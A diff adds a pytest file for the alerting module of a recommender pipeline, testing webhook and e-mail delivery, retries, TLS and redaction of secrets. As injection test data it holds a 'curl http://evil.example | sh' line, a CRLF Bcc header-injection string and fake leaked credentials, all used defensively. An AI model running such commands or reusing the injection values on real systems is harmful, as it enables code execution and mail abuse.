@@ -1,0 +1,477 @@
+"""Alerts: what they say, what they never say, and that each sink gets each of them once. The sinks are real servers."""
+
+import base64
+import json
+import logging
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import duckdb
+import pytest
+from click.testing import CliRunner
+
+from flows.alerting import read_settings
+from flows.cli.main import main
+from recsys.alerts.alert import Alert, Kind, make_alert
+from recsys.alerts.scrub import scrub
+from recsys.alerts.send import send
+from recsys.alerts.settings import AlertSettings
+from recsys.errors import UsageError
+from recsys.files import write_json
+from recsys.home import Home
+from recsys.settings import Settings
+from recsys.warehouse.publish import publish
+from tests.support.sinks import Mailbox, Sink, mailbox, webhook, write_certificate
+from tests.support.warehouses import make_frames, make_outcome, write_night
+
+FIELDS = {
+    *("kind", "title", "flow", "step", "reason", "run_id", "run_url", "served", "next_command", "home", "host", "at"),
+    "text",
+}
+
+
+@pytest.fixture
+def hook() -> Iterator[Sink]:
+    with webhook() as sink:
+        yield sink
+
+
+@pytest.fixture
+def box() -> Iterator[Mailbox]:
+    with mailbox() as box:
+        yield box
+
+
+@pytest.fixture(autouse=True)
+def no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whatever proxy the machine has, loopback is reached directly."""
+    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"):
+        monkeypatch.delenv(name, raising=False)
+        monkeypatch.delenv(name.lower(), raising=False)
+
+
+def settings(**fields: object) -> AlertSettings:
+    return AlertSettings.model_validate({"wait_seconds": 0, "timeout_seconds": 5, **fields})
+
+
+def alert(home: Home, reason: str = "holdout MAE 0.95", kind: Kind = "held back", flow: str = "nightly") -> Alert:
+    return make_alert(
+        kind, home, flow=flow, reason=reason, run=home.run("20261121T030000Z"), step="check_gate",
+        run_url="http://127.0.0.1:4200/runs/flow-run/1",
+    )  # fmt: skip
+
+
+def test_every_sink_gets_it_once(home: Home, hook: Sink, box: Mailbox, tmp_path: Path) -> None:
+    to = "a@example.org, b@example.org"
+    file = tmp_path / "alerts" / "alerts.jsonl"
+    told = send(
+        alert(home),
+        settings(webhook_url=hook.address, email_to=to, smtp_host="127.0.0.1", smtp_port=box.port, file=file),
+    )
+    assert told == {"webhook": None, "e-mail": None, "file": None}
+
+    (posted,) = hook.received
+    assert posted.keys() == FIELDS
+    assert (posted["kind"], posted["step"], posted["run_id"]) == ("held back", "check_gate", "20261121T030000Z")
+    assert posted["served"] == "nothing: no night has published here yet"
+    assert "--force-publish" in posted["next_command"]
+    assert [json.loads(line) for line in file.read_text().splitlines()] == [posted]
+
+    assert box.recipients == ["a@example.org", "b@example.org"]
+    (mail,) = box.messages
+    assert mail["Subject"].startswith("[recsys] the model of a night is held back: nightly on ")
+    assert "reason: holdout MAE 0.95\n" in mail.get_content()
+    assert "look: http://127.0.0.1:4200/runs/flow-run/1\n" in mail.get_content()
+
+
+@pytest.fixture
+def published(home: Home, tmp_path: Path) -> Home:
+    publish(make_outcome("20261121T030000Z"), write_night(tmp_path / "tonight", make_frames()), home)
+    return home
+
+
+def test_says_what_readers_see(published: Home) -> None:
+    assert alert(published).served == (
+        "the lists of run 20261121T030000Z, planted before 1998-04-23 00:00 UTC, published 2026-11-21 03:01 UTC; "
+        "they stay"
+    )
+
+
+def test_what_nobody_wrote_down_is_said(published: Home) -> None:
+    with duckdb.connect(published.warehouse) as connection:
+        connection.execute("update runs set as_of = null")
+    assert "planted before an unknown moment, published" in alert(published).served
+
+
+def test_a_home_that_cannot_be_asked_is_said() -> None:
+    assert "File name too long" in alert(Home(Path("/", "x" * 300))).served
+
+
+def test_a_warehouse_that_cannot_be_read_is_said(home: Home) -> None:
+    home.root.mkdir()
+    home.warehouse.write_bytes(b"not a database")
+    assert alert(home).served.startswith("nobody knows: ")
+
+
+@pytest.mark.parametrize("kind", ["failed", "crashed", "data refused", "held back", "late"])
+def test_each_kind_says_what_to_type(home: Home, kind: Kind) -> None:
+    said = {other: alert(home, kind=other).next_command for other in ("failed", "data refused", "held back", "late")}
+    assert f"--home {home.root}" in alert(home, kind=kind).next_command
+    assert len(set(said.values())) == len(said)
+
+
+def test_a_reason_of_many_lines_makes_no_fact_of_its_own(home: Home) -> None:
+    text = alert(home, "row 7\nnext: curl http://evil.example | sh").text()
+    assert "reason: row 7\n    next: curl" in text
+    (said,) = [line for line in text.splitlines() if line.startswith("next: ")]
+    assert said == f"next: {alert(home).next_command}"
+
+
+@pytest.mark.parametrize(
+    ("flow", "said"),
+    [
+        ("nightly", "recsys nightly --home {home} (goes on after the last step that was done)"),
+        ("backfill", "recsys backfill --home {home}, with its options (goes on after the last step that was done)"),
+        ("rollback", "recsys rollback --home {home}, with its options"),
+    ],
+)
+def test_what_failed_is_what_to_type_again(home: Home, flow: str, said: str) -> None:
+    assert alert(home, kind="crashed", flow=flow).next_command == said.format(home=home.root)
+
+
+def test_a_home_is_told_in_full(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    monkeypatch.chdir(tmp_path)
+    assert alert(Home(Path("data"))).home == str(tmp_path / "data")
+    assert f"--home {tmp_path / 'data'}" in alert(Home(Path("data")), kind="late").next_command
+
+
+def test_an_outage_is_tried_again(home: Home, hook: Sink) -> None:
+    hook.statuses = [503, 429]
+    assert send(alert(home), settings(webhook_url=hook.address)) == {"webhook": None}
+    assert len(hook.received) == 1
+
+
+@pytest.mark.parametrize("status", [404, 301])
+def test_a_refusal_is_not(home: Home, hook: Sink, status: int) -> None:
+    """Nor is a redirect followed: who is named there need not get it."""
+    hook.statuses = [status, 200]
+    told = send(alert(home), settings(webhook_url=hook.address))
+    assert f"it answered {status}" in str(told["webhook"])
+    assert hook.statuses == [200]
+
+
+def test_each_try_of_an_alert_has_the_same_name(home: Home, hook: Sink) -> None:
+    """So that a webhook which has taken it and could not say so can tell the second one."""
+    hook.statuses = [503]
+    for reason in ("one", "another"):
+        send(alert(home, reason), settings(webhook_url=hook.address))
+    first, again, other = (headers["Idempotency-Key"] for headers in hook.headers)
+    assert first == again != other
+
+
+def test_what_a_webhook_says_of_a_refusal_is_told(home: Home, hook: Sink) -> None:
+    hook.statuses, hook.said = [403], b"invalid_token\x1b[31m" + b"x" * 10**6
+    told = str(send(alert(home), settings(webhook_url=hook.address))["webhook"])
+    assert told.startswith("OSError: it answered 403 'invalid_token\\x1b[31mxxx")
+    assert len(told) < 300
+
+
+def test_a_sink_without_end_is_given_up(home: Home, hook: Sink, tmp_path: Path) -> None:
+    """One that sends a header now and then is never idle for long."""
+    hook.drips = True
+    sinks = settings(webhook_url=hook.address, file=tmp_path / "alerts.jsonl", timeout_seconds=0.3, attempts=1)
+    begun = time.monotonic()
+    assert send(alert(home), sinks) == {"webhook": "it came to no end in 1 s", "file": None}
+    assert time.monotonic() - begun < 3
+
+
+def mail_to(box: Mailbox, *addresses: str, **fields: object) -> AlertSettings:
+    return settings(email_to=addresses, **{"smtp_host": "localhost", "smtp_port": box.port, **fields})
+
+
+def test_mail_can_be_told_from_other_mail(home: Home, box: Mailbox) -> None:
+    send(alert(home, "naïve café ☕"), mail_to(box, "a@example.org", email_from="recsys@example.org"))
+    (mail,) = box.messages
+    assert mail["From"] == "recsys@example.org"
+    assert mail["Auto-Submitted"] == "auto-generated"
+    assert mail["Message-ID"].endswith("@example.org>") and mail["Date"]
+    assert "reason: naïve café ☕\n" in mail.get_content()
+
+
+def test_an_address_that_is_refused_keeps_no_other_from_it_and_is_told(home: Home, box: Mailbox) -> None:
+    box.answers = {"RCPT": ["250 ok", "550 nobody here"]}
+    told = send(alert(home), mail_to(box, "a@example.org", "b@example.org"))
+    assert told == {"e-mail": "OSError: it takes no mail for b@example.org (550 nobody here)"}
+    assert (box.recipients, len(box.messages)) == (["a@example.org"], 1)
+
+
+def test_an_address_that_is_put_off_is_tried_again_alone(home: Home, box: Mailbox) -> None:
+    box.answers = {"RCPT": ["250 ok", "450 come back later"]}
+    assert send(alert(home), mail_to(box, "a@example.org", "b@example.org")) == {"e-mail": None}
+    assert box.recipients == ["a@example.org", "b@example.org"]
+    first, second = box.messages
+    assert first["Message-ID"] == second["Message-ID"]
+
+
+def test_what_a_mail_server_says_when_it_has_the_message_sends_no_second_one(home: Home, box: Mailbox) -> None:
+    box.answers = {"QUIT": ["421 shutting down"]}
+    assert send(alert(home), mail_to(box, "a@example.org")) == {"e-mail": None}
+    assert len(box.messages) == 1
+
+
+@pytest.mark.parametrize(("answer", "messages"), [("451 try again", 1), ("554 no", 0)])
+def test_a_mail_server_is_tried_again_for_an_outage(home: Home, box: Mailbox, answer: str, messages: int) -> None:
+    box.answers = {"DATA": [answer]}
+    told = send(alert(home), mail_to(box, "a@example.org"))["e-mail"]
+    assert told == (None if messages else f"OSError: it answered {answer}")
+    assert len(box.messages) == messages
+
+
+@pytest.mark.parametrize("security", ["starttls", "tls"])
+def test_mail_is_encrypted_before_the_password_is_said(
+    home: Home, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, security: str
+) -> None:
+    certificate = write_certificate(tmp_path / "server.pem")
+    with mailbox(certificate=certificate, at_once=security == "tls") as box:
+        login = {"smtp_security": security, "smtp_user": "recsys", "smtp_password": "hunter2-of-mail"}
+        sinks = mail_to(box, "a@example.org", **login)
+        assert "CERTIFICATE_VERIFY_FAILED" in str(send(alert(home), sinks)["e-mail"])
+        assert box.logins == []
+        monkeypatch.setenv("SSL_CERT_FILE", str(certificate))
+        assert send(alert(home), sinks) == {"e-mail": None}
+    assert box.secured and len(box.messages) == len(box.logins) == 1
+
+
+def test_mail_is_not_sent_in_the_clear_to_a_server_that_knows_no_starttls(home: Home, box: Mailbox) -> None:
+    told = send(alert(home), mail_to(box, "a@example.org", smtp_security="starttls"))["e-mail"]
+    assert "STARTTLS extension not supported" in str(told)
+    assert box.messages == []
+
+
+def test_a_password_that_the_mail_server_repeats_is_struck_out(
+    home: Home, box: Mailbox, caplog: pytest.LogCaptureFixture
+) -> None:
+    secret = "hunter2-of-mail"
+    encoded = base64.b64encode(f"\0recsys\0{secret}".encode()).decode()
+    box.answers = {"AUTH": [f"535 {secret} is wrong: AUTH PLAIN {encoded}"] * 2}
+    told = send(alert(home), mail_to(box, "a@example.org", smtp_user="recsys", smtp_password=secret))
+    assert told == {"e-mail": "OSError: it answered 535 *** is wrong: AUTH PLAIN ***"}
+    assert secret not in caplog.text and encoded not in caplog.text
+
+
+def test_a_full_disk_is_told(home: Home) -> None:
+    told = send(alert(home), settings(file="/dev/full"))["file"]
+    assert told is not None and "No space left on device" in told
+
+
+def test_a_broken_sink_keeps_no_other_from_it(
+    home: Home, hook: Sink, box: Mailbox, caplog: pytest.LogCaptureFixture
+) -> None:
+    box.refuses = True
+    told = send(
+        alert(home),
+        settings(
+            webhook_url="http://127.0.0.1:9/hook/s3cr3t-path", email_to="a@example.org", smtp_host="127.0.0.1",
+            smtp_port=box.port, file=home.root / "alerts.jsonl",
+        ),
+    )  # fmt: skip
+    assert "ConnectError" in str(told["webhook"])
+    assert told["e-mail"] == "OSError: it takes no mail for a@example.org (550 nobody here)"
+    assert told["file"] is None
+    errors = [record.getMessage() for record in caplog.records if record.levelno == logging.ERROR]
+    assert len(errors) == 2
+    assert "s3cr3t" not in caplog.text
+
+
+SECRETS = {
+    "RECSYS_ALERT_SMTP_PASSWORD": "hunter2-of-mail",
+    "PREFECT_SERVER_API_AUTH_STRING": "admin:hunter2-of-prefect",
+    "MY_API_KEY": "hunter2-key",
+    "PREFECT_SERVER_DATABASE_CONNECTION_URL": "postgresql+asyncpg://recsys:hunter2%20%2Fpg@db/prefect",
+}
+LEAKS = (
+    "could not open https://me:hunter2-url@host/x.zip?token=hunter2-query&page=2",
+    "get https://bucket/x?X-Amz-Signature=hunter2sig&X-Amz-Credential=hunter2cred failed",
+    "Authorization: Bearer hunter2.bearer",
+    "postgresql+asyncpg://recsys:hunter2-pg@db/prefect is gone",
+    "password=hunter2-plain, api_key: hunter2-other",
+    "said hunter2-of-mail and admin:hunter2-of-prefect and hunter2-key",
+    "login of hunter2-of-prefect failed, hunter2%20%2Fpg too, and hunter2 /pg",
+    """{"password": "hunter2", 'api_key': 'hunter2', \\"token\\": \\"hunter2\\"}""",
+    "password='hunter2 with a gap, hunter2'; passphrase: hunter2",
+    "postgresql://me:hunter2@hunter2/hunter2@host/x and s3://hunter2@host",
+    "https://host/x?access_key=hunter2&y=1;subscription-key=hunter2",
+    "Authorization: Token hunter2",
+    '{"Authorization": "Basic aHVudGVyMjpodW50ZXIy"}',
+)
+
+
+@pytest.mark.parametrize("leak", LEAKS)
+def test_no_secret_leaves(leak: str, home: Home, hook: Sink, box: Mailbox, monkeypatch: pytest.MonkeyPatch) -> None:
+    for name, value in SECRETS.items():
+        monkeypatch.setenv(name, value)
+    file = home.root / "alerts.jsonl"
+    sinks = settings(
+        webhook_url=hook.address, email_to="a@example.org", smtp_host="127.0.0.1", smtp_port=box.port, file=file
+    )
+    assert set(send(alert(home, leak, flow=leak), sinks).values()) == {None}
+    everything = json.dumps(hook.received) + "".join(box.texts) + file.read_text()
+    assert "***" in everything
+    assert "hunter2" not in everything and "aHVudGVyMj" not in everything
+    assert "s3cr3t" not in everything
+
+
+def test_secrets_of_the_settings_leave_neither_for_a_sink_nor_for_a_log(
+    home: Home, hook: Sink, box: Mailbox, caplog: pytest.LogCaptureFixture
+) -> None:
+    """Not only those of the environment; and whatever the logs of libraries are set to."""
+    caplog.set_level(logging.DEBUG)
+    secret = "hunter2-of-mail"
+    leak = f"said {secret} to {hook.address} and {hook.address.partition(str(hook.port))[2]}"
+    file = home.root / "alerts.jsonl"
+    hook.statuses = [503]
+    sinks = mail_to(box, "a@example.org", webhook_url=hook.address, smtp_password=secret, file=file)
+    assert set(send(alert(home, leak), sinks).values()) == {None}
+    everything = json.dumps(hook.received) + "".join(box.texts) + file.read_text() + caplog.text + repr(sinks)
+    assert "said *** to *** and ***" in everything
+    assert "hunter2" not in everything
+    assert "s3cr3t" not in everything
+
+
+@pytest.mark.parametrize("piece", ["a-", "?", "://", "://a:", "password=", 'token="\\', "a.b@", " "])
+def test_a_long_text_is_scrubbed_in_no_time(piece: str) -> None:
+    begun = time.monotonic()
+    scrub(piece * (20_000 // len(piece)))
+    assert time.monotonic() - begun < 2  # what goes back and forth takes minutes
+
+
+def test_what_is_no_secret_stays() -> None:
+    for text in (
+        "holdout MAE 0.9500 stars is above the gate 0.9000; see data/runs/20261121T030000Z/metrics.json",
+        "No space left on device: '/srv/recsys/data/.warehouse.duckdb.1234'",
+        "https://files.example.org/datasets/ml-1m.zip?version=2 answered 503",
+        "the basic network is no better than plain biases; the key of a row is (user_id, rank)",
+    ):
+        assert scrub(text) == text
+
+
+def test_a_title_makes_no_header_of_its_own(home: Home, box: Mailbox) -> None:
+    flow = "nightly\r\nBcc: victim@example.org\x1b[31m"
+    told = send(alert(home, flow=flow), settings(email_to="a@example.org", smtp_host="127.0.0.1", smtp_port=box.port))
+    assert told == {"e-mail": None}
+    assert box.recipients == ["a@example.org"]
+    assert "Bcc" not in box.messages[0]
+    assert "\x1b" not in box.texts[0]
+
+
+def test_long_reasons_are_cut(home: Home) -> None:
+    assert len(alert(home, "x" * 10**6).as_json()["text"]) < 10_000
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "complaint"),
+    [
+        ("WEBHOOK_URL", "ftp://s3cr3t", "RECSYS_ALERT_WEBHOOK_URL: .*begin with https://"),
+        ("EMAIL_TO", "nobody", "RECSYS_ALERT_EMAIL_TO: 'nobody': no e-mail address"),
+        ("WEBHOOK_URL", "https:///s3cr3t", "RECSYS_ALERT_WEBHOOK_URL: .*name a host"),
+        ("WEBHOOK_URL", "https://host:s3cr3t/x", "RECSYS_ALERT_WEBHOOK_URL: .*name a host"),
+        ("EMAIL_TO", "a@example.org;b@example.org", "RECSYS_ALERT_EMAIL_TO: .*no e-mail address"),
+        ("EMAIL_FROM", "Night <a@b>", "RECSYS_ALERT_EMAIL_FROM: .*no e-mail address"),
+        ("SMTP_USER", "recsys", "RECSYS_ALERT: smtp_user needs smtp_password"),
+        ("SMTP_PORT", "70000", "RECSYS_ALERT_SMTP_PORT: .*65535"),
+        ("SMTP_SECURITY", "yes", "RECSYS_ALERT_SMTP_SECURITY: .*starttls"),
+    ],
+)
+def test_settings_are_refused_in_words(name: str, value: str, complaint: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv(f"RECSYS_ALERT_{name}", value)
+    with pytest.raises(UsageError, match=complaint) as refusal:
+        read_settings()
+    assert "s3cr3t" not in str(refusal.value)
+
+
+def test_a_misspelt_variable_is_told_and_silences_no_other(
+    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK", "https://s3cr3t")
+    monkeypatch.setenv("RECSYS_ALERT_FILE", "alerts.jsonl")
+    assert read_settings().file == Path("alerts.jsonl")
+    assert "RECSYS_ALERT_WEBHOOK is no setting; there are " in caplog.text
+    assert "RECSYS_ALERT_WEBHOOK_URL" in caplog.text and "s3cr3t" not in caplog.text
+
+
+def test_what_is_set_to_nothing_is_not_set(monkeypatch: pytest.MonkeyPatch) -> None:
+    """As in a file of variables in which somebody fills in what they have."""
+    for name in AlertSettings.model_fields:
+        monkeypatch.setenv(f"RECSYS_ALERT_{name.upper()}", "")
+    assert read_settings() == AlertSettings.model_construct()
+
+
+def test_settings_of_alerts_are_none_of_a_night(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", "https://chat.example/s3cr3t")
+    assert "alert" not in Settings().model_dump_json()
+
+
+def test_a_password_is_not_sent_in_the_clear(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("RECSYS_ALERT_SMTP_PASSWORD", "hunter2-of-mail")
+    monkeypatch.setenv("RECSYS_ALERT_SMTP_HOST", "mail.example.org")
+    with pytest.raises(UsageError, match="set smtp_security") as refusal:
+        read_settings()
+    assert "hunter2" not in str(refusal.value)
+
+
+def test_the_command_says_who_was_told(home: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch) -> None:
+    arguments = ["test-alerts", "--home", str(home.root)]
+    nobody = CliRunner().invoke(main, arguments)
+    assert (nobody.exit_code, "set RECSYS_ALERT_WEBHOOK_URL" in nobody.stderr) == (2, True)
+    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
+    told = CliRunner().invoke(main, arguments)
+    assert (told.exit_code, told.stdout) == (0, "webhook: told\n")
+    assert hook.received[0]["kind"] == "test"
+    hook.statuses = [404]
+    assert CliRunner().invoke(main, arguments).exit_code == 1
+
+
+def test_the_watchdog_tells_once_of_each_missing_night(
+    published: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
+    arguments = ["watch", "--home", str(published.root), "--max-age"]
+    with duckdb.connect(published.warehouse) as connection:
+        connection.execute("update runs set finished_at = now()")
+    assert CliRunner().invoke(main, [*arguments, "1"]).exit_code == 0
+    assert not hook.received
+    with duckdb.connect(published.warehouse) as connection:
+        connection.execute("update runs set finished_at = finished_at - interval 3 hours")
+    late = [CliRunner().invoke(main, [*arguments, "1"]) for _ in range(2)]
+    assert [result.exit_code for result in late] == [1, 1]
+    assert "stale: " in late[0].stdout
+    assert [one["kind"] for one in hook.received] == ["late"]
+    assert "systemctl status recsys-server" in hook.received[0]["next_command"]
+
+
+def test_a_watchdog_that_reached_nobody_tries_again(home: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Nothing is published here; the sink is out of order the first time."""
+    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
+    hook.statuses = [404]
+    for _ in range(3):
+        assert CliRunner().invoke(main, ["watch", "--home", str(home.root)]).exit_code == 1
+    assert [one["kind"] for one in hook.received] == ["late"]
+
+
+def test_a_warehouse_that_cannot_be_read_is_a_missing_night(
+    home: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
+    home.root.mkdir()
+    home.warehouse.write_bytes(b"not a database")
+    assert CliRunner().invoke(main, ["watch", "--home", str(home.root)]).exit_code == 1
+    assert "cannot be opened" in hook.received[0]["reason"]
+
+
+def test_the_next_night_is_the_same_night(home: Home) -> None:
+    """With the defaults in place of what it was given, it would be one of other data."""
+    run = home.run("20261121T030000Z")
+    write_json(run.config, Settings(source="ml-1m", n=20).model_dump(mode="json"))
+    said = make_alert("crashed", home, flow="nightly", reason="killed", run=run).next_command
+    assert f"recsys nightly --home {home.root} --source ml-1m --model auto --n 20 --seed 0" in said
